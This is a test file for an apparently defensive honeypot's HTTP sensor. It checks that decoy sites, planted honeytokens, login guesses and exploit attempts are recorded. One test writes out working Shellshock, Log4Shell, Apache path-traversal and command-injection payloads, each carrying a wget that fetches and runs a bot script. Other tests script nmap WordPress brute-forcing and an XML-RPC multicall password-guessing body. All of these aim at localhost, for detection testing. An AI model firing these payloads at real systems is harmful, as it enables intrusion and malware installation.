// Real clients against the HTTP sensor: curl (decoy pages, trap files, exploits carrying wget),
// headless chromium (a form login), nmap's http scripts and whatweb (a plausible product).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { startApiaryProcess, waitFor } from '../../helpers/apiary-process.js';
import { startFileServer } from '../../helpers/file-server.js';
import { runTool } from '../../helpers/net-tools.js';
import { payloads, storedEvents } from '../../helpers/stored-events.js';

const CHROMIUM_FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];

test('curl gets the decoy pages and trap files; honeytokens served are registered; every request recorded', async () => {
  const apiary = await startApiaryProcess({ sensor: 'http-curl', services: { http: { listen: ['127.0.0.1:0'], tls_listen: ['127.0.0.1:0'], site: 'wordpress' } } });
  try {
    const port = apiary.ports.http!;
    const tlsPort = apiary.ports.https!;
    const base = `http://127.0.0.1:${port}`;
    const login = await runTool('curl', ['-sS', '-i', `${base}/wp-login.php`]);
    assert.match(login.stdout, /^HTTP\/1\.1 200 OK\r\nDate: .+\r\nServer: Apache\/2\.4\.62 \(Debian\)\r\n/);
    assert.match(login.stdout, /<title>Log In &lsaquo; .* WordPress<\/title>/);
    assert.doesNotMatch(login.stdout, /X-Powered-By: Express|nodejs|node\.js/i);
    const missing = await runTool('curl', ['-sS', '-i', `${base}/nothing-here`]);
    assert.match(missing.stdout, /^HTTP\/1\.1 404 Not Found\r\n/);
    assert.match(missing.stdout, /<address>Apache\/2\.4\.62 \(Debian\) Server at 127\.0\.0\.1 Port \d+<\/address>/);
    const https = await runTool('curl', ['-sS', '-k', '-i', `https://127.0.0.1:${tlsPort}/`]);
    assert.match(https.stdout, /^HTTP\/1\.1 200 OK/);
    assert.match(https.stdout, /<meta name="generator" content="WordPress 6\.4\.3" \/>/);

    const env = await runTool('curl', ['-sS', `${base}/.env`]);
    const dbPassword = /^DB_PASSWORD=(\S+)$/m.exec(env.stdout)?.[1];
    const awsKey = /^AWS_ACCESS_KEY_ID=(AKIA[A-Z2-7]{16})$/m.exec(env.stdout)?.[1];
    assert.ok(dbPassword && awsKey, env.stdout);
    const git = await runTool('curl', ['-sS', `${base}/.git/config`]);
    const gitToken = /deploy-bot:(ghp_[A-Za-z0-9]{36})@/.exec(git.stdout)?.[1];
    assert.ok(gitToken, git.stdout);
    const wpBak = await runTool('curl', ['-sS', `${base}/wp-config.php.bak`]);
    assert.ok(wpBak.stdout.includes(`define( 'DB_PASSWORD', '${dbPassword}' );`), 'the same DB password in .env and wp-config');
    const sql = await runTool('curl', ['-sS', `${base}/backup.sql`]);
    assert.match(sql.stdout, /^-- MySQL dump 10\.13/);
    const proxy = await runTool('curl', ['-sS', '-p', '-x', base, 'https://proxy-judge.invalid/']);
    assert.match(proxy.stderr, /CONNECT tunnel failed, response 405/, 'Apache without mod_proxy refuses CONNECT');
    for (const p of ['/phpinfo.php', '/server-status']) assert.match((await runTool('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', `${base}${p}`])).stdout, /^200$/, p);
    await apiary.stop();
    const planted = await storedEvents(apiary.dir, 'honeytoken.planted');
    const tokens = planted.map((e) => ({ protocol: e.protocol, ...(e.payload as { kind: string; username: string; secret: string; locations: string[] }) }));
    assert.ok(tokens.some((t) => t.kind === 'app_db' && t.secret === dbPassword && t.locations.includes('/.env') && t.locations.includes('/wp-config.php.bak')), 'the DB password is planted');
    assert.ok(tokens.some((t) => t.kind === 'api_key' && t.username === awsKey), 'the AWS key is planted');
    assert.ok(tokens.some((t) => t.kind === 'api_key' && t.secret === gitToken), 'the git token is planted');
    assert.ok(tokens.every((t) => t.protocol === 'http'));
    const reqs = await payloads<{ path: string; method: string; user_agent?: string }>(apiary.dir, 'http.request');
    assert.deepEqual(
      reqs.map((r) => r.path),
      ['/wp-login.php', '/nothing-here', '/', '/.env', '/.git/config', '/wp-config.php.bak', '/backup.sql', 'proxy-judge.invalid:443', '/phpinfo.php', '/server-status'],
    );
    assert.deepEqual((await payloads(apiary.dir, 'tunnel.request')).map((t) => [t.target_host, t.target_port]), [['proxy-judge.invalid', 443]]);
    assert.ok(reqs.every((r) => r.user_agent?.startsWith('curl/')));
  } finally {
    await apiary.stop();
  }
});

test('exploits carrying wget of a bot: exploit.attempt named, and the bot lands in quarantine with its SHA-256', async () => {
  const bot = Buffer.from(`#!/bin/sh\n# test bot ${Date.now()}\ncd /tmp || exit\n`);
  const botSha = createHash('sha256').update(bot).digest('hex');
  const files = await startFileServer({ '/bot.sh': bot });
  const apiary = await startApiaryProcess({
    sensor: 'http-exploits',
    fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'], timeout_s: 10 },
    services: { http: { listen: ['127.0.0.1:0'], site: 'apache-default' } },
  });
  try {
    const base = `http://127.0.0.1:${apiary.ports.http}`;
    const wget = `wget http://127.0.0.1:${files.port}/bot.sh -O /tmp/bot.sh`;
    const b64 = Buffer.from(wget).toString('base64');
    const cases: { name: string; cve?: string; args: string[] }[] = [
      { name: 'shellshock', cve: 'CVE-2014-6271', args: ['-A', `() { :; }; /bin/bash -c "${wget}; sh /tmp/bot.sh"`, `${base}/cgi-bin/status`] },
      { name: 'log4shell', cve: 'CVE-2021-44228', args: ['-H', `X-Api-Version: \${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/${b64}}`, `${base}/`] },
      { name: 'apache-path-traversal', cve: 'CVE-2021-41773', args: ['--path-as-is', '--data-binary', `echo;${wget}`, `${base}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh`] },
      { name: 'command-injection', args: ['-G', '--data-urlencode', `host=127.0.0.1;${wget};sh /tmp/bot.sh`, `${base}/diag_ping.cgi`] },
    ];
    for (const c of cases) {
      const r = await runTool('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', ...c.args]);
      assert.equal(r.code, 0, r.stderr);
    }
    await waitFor(async () => (await apiary.events(['--type', 'file.download'])).length >= cases.length, 20_000);
    await apiary.stop();
    const exploits = await payloads<{ name: string; cve?: string }>(apiary.dir, 'exploit.attempt');
    for (const c of cases) assert.ok(exploits.some((e) => e.name === c.name && e.cve === c.cve), `${c.name} recorded: ${JSON.stringify(exploits)}`);
    const downloads = await payloads<{ url: string; sha256?: string; outcome: string; path?: string }>(apiary.dir, 'file.download');
    assert.equal(downloads.length, cases.length, 'one download per exploit');
    for (const d of downloads) {
      assert.equal(d.url, `http://127.0.0.1:${files.port}/bot.sh`);
      assert.equal(d.sha256, botSha);
      assert.ok(d.outcome === 'stored' || d.outcome === 'duplicate', d.outcome);
    }
    const stored = join(apiary.dir, 'data', 'quarantine', botSha);
    assert.ok(existsSync(stored));
    assert.equal(createHash('sha256').update(readFileSync(stored)).digest('hex'), botSha);
    assert.ok(files.hits.length >= cases.length);
  } finally {
    await apiary.stop();
    await files.close();
  }
});

test('the fetch policy refuses loopback targets unless allowed', async () => {
  const files = await startFileServer({ '/bot.sh': 'x' });
  const apiary = await startApiaryProcess({ sensor: 'http-policy', fetch: { enabled: true }, services: { http: { listen: ['127.0.0.1:0'] } } });
  try {
    await runTool('curl', ['-sS', '-o', '/dev/null', '-A', `() { :; }; wget http://127.0.0.1:${files.port}/bot.sh`, `http://127.0.0.1:${apiary.ports.http}/`]);
    await waitFor(async () => (await apiary.events(['--type', 'file.download'])).length >= 1);
    await apiary.stop();
    const [d] = await payloads<{ outcome: string; reason?: string }>(apiary.dir, 'file.download');
    assert.equal(d!.outcome, 'refused');
    assert.match(String(d!.reason), /range fetching may not reach/);
    assert.deepEqual(files.hits, [], 'nothing was fetched');
  } finally {
    await apiary.stop();
    await files.close();
  }
});

test('headless chromium renders the phpMyAdmin login and submits it: auth.attempt recorded', async () => {
  const apiary = await startApiaryProcess({
    sensor: 'http-chromium',
    auth: [{ user: 'root', password: 'changeme', allow: true }],
    services: { http: { listen: ['127.0.0.1:0'], site: 'phpmyadmin' } },
  });
  const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_FLAGS, timeout: 30_000 });
  try {
    const page = await browser.newPage();
    const base = `http://127.0.0.1:${apiary.ports.http}/`;
    const resp = await page.goto(base);
    assert.equal(resp?.status(), 200);
    assert.equal(await page.title(), 'phpMyAdmin');
    assert.equal(resp?.headers()['server'], 'Apache/2.4.62 (Debian)');
    await page.fill('#input_username', 'root');
    await page.fill('#input_password', 'wrong');
    await Promise.all([page.waitForNavigation(), page.click('#input_go')]);
    assert.match(await page.content(), /Access denied for user/);
    await page.fill('#input_username', 'root');
    await page.fill('#input_password', 'changeme');
    await Promise.all([page.waitForNavigation(), page.click('#input_go')]);
    assert.match(await page.title(), /phpMyAdmin 5\.2\.1/);
    await apiary.stop();
    const attempts = await payloads<{ method: string; username: string; password: string; success: boolean }>(apiary.dir, 'auth.attempt');
    assert.deepEqual(attempts.map((a) => [a.method, a.username, a.password, a.success]), [
      ['form', 'root', 'wrong', false],
      ['form', 'root', 'changeme', true],
    ]);
    const reqs = await payloads<{ user_agent?: string }>(apiary.dir, 'http.request');
    assert.ok(reqs.some((r) => /Chrome\//.test(r.user_agent ?? '')));
  } finally {
    await browser.close();
    await apiary.stop();
  }
});

test('a router login with HTTP Basic: curl -u attempts recorded', async () => {
  const apiary = await startApiaryProcess({
    sensor: 'http-basic',
    auth: [{ user: 'admin', password: 'admin', allow: true }],
    services: { http: { listen: ['127.0.0.1:0'], site: 'router-login' } },
  });
  try {
    const base = `http://127.0.0.1:${apiary.ports.http}/`;
    const anon = await runTool('curl', ['-sS', '-i', base]);
    assert.match(anon.stdout, /^HTTP\/1\.1 401 Unauthorized\r\nServer: mini_httpd\/1\.19 19dec2003\r\n/);
    assert.match(anon.stdout, /WWW-Authenticate: Basic realm="TP-LINK Wireless N Router WR841N"/);
    assert.match((await runTool('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '-u', 'admin:1234', base])).stdout, /^401$/);
    assert.match((await runTool('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '-u', 'admin:admin', base])).stdout, /^200$/);
    await apiary.stop();
    const attempts = await payloads<{ method: string; username: string; password: string; success: boolean }>(apiary.dir, 'auth.attempt');
    assert.deepEqual(attempts.map((a) => [a.method, a.username, a.password, a.success]), [
      ['basic', 'admin', '1234', false],
      ['basic', 'admin', 'admin', true],
    ]);
  } finally {
    await apiary.stop();
  }
});

test('nmap -sV with http-title, http-headers, http-enum and whatweb see Apache on Debian, not Dionaea', async () => {
  const apiary = await startApiaryProcess({ sensor: 'http-nmap', services: { http: { listen: ['127.0.0.1:0'], site: 'wordpress' } } });
  try {
    const port = String(apiary.ports.http);
    const nmap = await runTool('nmap', ['-n', '-Pn', '-sT', '-sV', '-p', port, '--script', 'http-title,http-headers,http-enum', '127.0.0.1'], { timeoutMs: 240_000 });
    assert.equal(nmap.code, 0, nmap.stderr);
    assert.match(nmap.stdout, new RegExp(`${port}/tcp\\s+open\\s+http\\s+Apache httpd 2\\.4\\.62 \\(\\(Debian\\)\\)`));
    assert.match(nmap.stdout, /http-title: .*WordPress/);
    assert.match(nmap.stdout, /Server: Apache\/2\.4\.62 \(Debian\)/);
    assert.match(nmap.stdout, /http-enum:[\s\S]*\/wp-login\.php/);
    assert.doesNotMatch(nmap.stdout, /dionaea/i);
    const ww = await runTool('whatweb', ['--color=never', '-a', '1', `http://127.0.0.1:${port}/`], { timeoutMs: 60_000 });
    assert.equal(ww.code, 0, ww.stderr);
    assert.match(ww.stdout, /Apache\[2\.4\.62\]/);
    assert.match(ww.stdout, /WordPress\[6\.4\.3\]/);
    await apiary.stop();
    const reqs = await payloads(apiary.dir, 'http.request');
    assert.ok(reqs.length > 50, `nmap's and whatweb's requests recorded, up to the per-source request rate (${reqs.length})`);
  } finally {
    await apiary.stop();
  }
});

test('WordPress logins: nmap http-wordpress-brute on wp-login.php and an XML-RPC multicall, every guess recorded', async () => {
  const apiary = await startApiaryProcess({
    sensor: 'http-wp-brute',
    auth: [{ user: 'admin', password: 'sunshine', allow: true }],
    services: { http: { listen: ['127.0.0.1:0'], site: 'wordpress' } },
  });
  try {
    const port = String(apiary.ports.http);
    const users = join(apiary.dir, 'users.txt');
    const passes = join(apiary.dir, 'pass.txt');
    writeFileSync(users, 'admin\nbob\n');
    writeFileSync(passes, '123456\nsunshine\npassword\n');
    const nmap = await runTool('nmap', ['-n', '-Pn', '-sT', '-sV', '-p', port, '--script', 'http-wordpress-brute', '--script-args', `userdb=${users},passdb=${passes}`, '127.0.0.1'], { timeoutMs: 180_000 });
    assert.match(nmap.stdout, /admin:sunshine - Valid credentials/);
    const call = (pw: string): string => `<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>${pw}</string></value></data></array></value></member></struct></value>`;
    const body = `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${['qwerty', 'sunshine', 'dragon'].map(call).join('')}</data></array></value></param></params></methodCall>`;
    const rpc = await runTool('curl', ['-sS', '-H', 'Content-Type: text/xml', '--data-binary', body, `http://127.0.0.1:${port}/xmlrpc.php`]);
    assert.equal(rpc.stdout.match(/Incorrect username or password\./g)?.length, 2);
    assert.match(rpc.stdout, /<name>isAdmin<\/name>/);
    await apiary.stop();
    const attempts = await payloads<{ method: string; username: string; password: string; success: boolean }>(apiary.dir, 'auth.attempt');
    const form = attempts.filter((a) => a.method === 'form');
    assert.ok(form.length >= 6, `nmap's guesses recorded (${form.length})`);
    assert.deepEqual(form.filter((a) => a.success).map((a) => [a.username, a.password]), [['admin', 'sunshine']]);
    assert.deepEqual(attempts.filter((a) => a.method === 'password').map((a) => [a.password, a.success]), [['qwerty', false], ['sunshine', true], ['dragon', false]]);
  } finally {
    await apiary.stop();
  }
});

test('headless chromium gets every decoy site with its product header and title', async () => {
  const sites = [
    ['apache-default', 'Apache2 Debian Default Page: It works', /^Apache\/2\.4\.62 \(Debian\)$/],
    ['wordpress', /Just another WordPress site$/, /^Apache\//],
    ['phpmyadmin', 'phpMyAdmin', /^Apache\//],
    ['nas-login', /Synology.DiskStation$/, /^nginx\/1\.22\.1$/],
    ['router-login', 'TL-WR841N', /^mini_httpd\//],
  ] as const;
  const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_FLAGS, timeout: 30_000 });
  try {
    for (const [site, title, server] of sites) {
      const apiary = await startApiaryProcess({ sensor: `http-${site}`, auth: [{ user: 'admin', password: 'admin', allow: true }], services: { http: { listen: ['127.0.0.1:0'], site } } });
      const context = await browser.newContext(site === 'router-login' ? { httpCredentials: { username: 'admin', password: 'admin' } } : {});
      try {
        const page = await context.newPage();
        const resp = await page.goto(`http://127.0.0.1:${apiary.ports.http}/`);
        assert.equal(resp?.status(), 200, site);
        const t = await page.title();
        if (typeof title === 'string') assert.equal(t, title, site);
        else assert.match(t, title, site);
        assert.match(resp?.headers()['server'] ?? '', server, site);
      } finally {
        await context.close();
        await apiary.stop();
      }
    }
  } finally {
    await browser.close();
  }
});
